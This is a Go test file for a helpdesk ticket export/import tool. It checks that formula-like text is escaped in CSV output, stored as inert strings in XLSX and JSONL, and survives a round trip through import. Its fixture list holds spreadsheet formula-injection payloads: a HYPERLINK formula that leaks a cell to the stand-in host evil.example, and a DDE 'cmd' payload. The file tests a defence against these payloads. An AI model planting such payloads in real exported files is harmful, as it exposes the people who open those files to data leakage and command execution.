package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/udesk-etl/udesk-etl/udesk/udesktest"
)

// relFormulas are texts a spreadsheet would run: every character that
// starts a formula, and a text already starting with the escape quote.
var relFormulas = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"点我")`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(A1:A9)`,
	"\t=1+1",
	"\r=1+1",
	`'quoted already`,
	`''twice`,
}

// TestFormulaInjectionEscapedAndRoundTrips: CSV, which a spreadsheet opens
// by guessing, writes formula-like text with a leading quote; XLSX writes it
// as it is in string cells, which are never evaluated; JSON lines keep it as
// it is; and importing the CSV or XLSX export creates tickets with the
// original text.
func TestFormulaInjectionEscapedAndRoundTrips(t *testing.T) {
	src := newSim(t, udesktest.Options{Tickets: len(relFormulas), Seed: 2})
	want := map[string]string{} // subject -> content
	for i, f := range relFormulas {
		subject := f + " #" + string(rune('a'+i))
		content := f
		src.UpdateTicket(int64(i+1), func(tk *udesktest.Ticket) { tk.Subject, tk.Content = subject, content })
		want[subject] = content
	}
	dir := t.TempDir()
	out := func(ext string) string { return filepath.Join(dir, "t"+ext) }
	if code, _, stderr := runCLI(t, simEnv(src), "export", "--quiet", "-o", out(".csv"), "-o", out(".xlsx"), "-o", out(".jsonl")); code != exitOK {
		t.Fatalf("export: exit %d\n%s", code, stderr)
	}

	// CSV: the cells hold the escaped text.
	b, _ := os.ReadFile(out(".csv"))
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	got := map[string]string{}
	for _, r := range recs[1:] {
		got[r[col["subject"]]] = r[col["content"]]
	}
	for subject, content := range want {
		if c, ok := got["'"+subject]; !ok || c != "'"+content {
			t.Errorf("CSV: subject %q content %q not escaped (have %q)", subject, content, relKeys(got))
		}
	}

	// XLSX: string cells holding the API's text as it is (a string cell is
	// never evaluated, so it needs no quote), and no formula anywhere.
	x, err := excelize.OpenFile(out(".xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	sheet := x.GetSheetList()[0]
	rows, err := x.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	for r := 1; r < len(rows); r++ {
		for c := range rows[r] {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if f, _ := x.GetCellFormula(sheet, cell); f != "" {
				t.Errorf("XLSX %s is a formula: %q", cell, f)
			}
		}
		for _, name := range []string{"subject", "content"} {
			cell, _ := excelize.CoordinatesToCellName(col[name]+1, r+1)
			if typ, err := x.GetCellType(sheet, cell); err != nil || (typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString) {
				t.Errorf("XLSX %s (%s %q): cell type %v (%v), want a string cell", cell, name, rows[r][col[name]], typ, err)
			}
		}
	}
	x.Close()
	xgot := map[string]string{}
	for _, r := range rows[1:] {
		xgot[r[col["subject"]]] = r[col["content"]]
	}
	for subject, content := range want {
		if c, ok := xgot[subject]; !ok || c != content {
			t.Errorf("XLSX: subject %q content %q not kept as the API gave it (have %q)", subject, content, relKeys(xgot))
		}
	}
	if len(xgot) != len(want) {
		t.Errorf("XLSX: %d rows, want %d", len(xgot), len(want))
	}

	// JSON lines are not opened by spreadsheets: the text stays as it is.
	j, _ := os.ReadFile(out(".jsonl"))
	jgot := map[string]bool{}
	for _, line := range strings.Split(strings.TrimSpace(string(j)), "\n") {
		var row struct{ Subject string }
		if err := json.Unmarshal([]byte(line), &row); err != nil {
			t.Fatal(err)
		}
		jgot[row.Subject] = true
	}
	for subject := range want {
		if !jgot[subject] {
			t.Errorf("JSONL: subject %q not kept as it is (have %q)", subject, relKeys(jgot))
		}
	}

	// The round trip: each export imports as the original text.
	for _, ext := range []string{".csv", ".xlsx"} {
		t.Run("import "+ext, func(t *testing.T) {
			dst := newSim(t, udesktest.Options{})
			results := filepath.Join(t.TempDir(), "results")
			if code, _, stderr := runCLI(t, simEnv(dst), "import", "--create", "-i", out(ext), "--quiet", "--results", results); code != exitOK {
				t.Fatalf("import: exit %d\n%s", code, stderr)
			}
			have := map[string]string{}
			for _, tk := range dst.Tickets() {
				have[tk.Subject] = tk.Content
			}
			for subject, content := range want {
				if c, ok := have[subject]; !ok || c != content {
					t.Errorf("subject %q content %q did not round-trip (have %q)", subject, content, relKeys(have))
				}
			}
			if len(have) != len(want) {
				t.Errorf("%d tickets created, want %d", len(have), len(want))
			}
		})
	}
}

func relKeys[V any](m map[string]V) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}
